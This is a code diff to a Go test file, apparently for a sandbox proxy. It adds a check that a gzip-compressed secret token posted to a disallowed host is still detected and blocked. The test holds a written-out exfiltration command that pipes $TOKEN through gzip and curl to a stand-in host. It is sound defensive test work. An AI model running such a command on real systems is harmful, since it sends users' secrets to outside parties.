@@ -319,6 +319,14 @@ except Exception as e:
 	if err != nil || !(strings.Contains(out, "403 secret-wrong-host") || strings.HasPrefix(out, "cut")) {
 		t.Errorf("streamed leak: %v %s", err, out)
 	}
+	// A coded body is scanned decoded: gzip hides nothing.
+	for _, proto := range []string{"--http1.1", "--http2"} {
+		out, err := s.guest("sh", "-c", `printf 'x=%s' "$TOKEN" | gzip | curl -sS --max-time 20 `+proto+` -D - -H 'Content-Encoding: gzip' --data-binary @- "https://other.test/rec?m=leak-gzip"`)
+		if err != nil || !strings.Contains(out, " 403") || !strings.Contains(strings.ToLower(out), "x-capsem-blocked: secret-wrong-host") {
+			t.Errorf("%s a gzipped leak: %v\n%s", proto, err, out)
+		}
+	}
+
 	// A placeholder is a valid DNS label: a name under an allowed wildcard
 	// holding it gets NXDOMAIN, and never reaches a resolver.
 	if st, _ := s.digStatus(ph + ".wild.test"); st != "NXDOMAIN" {
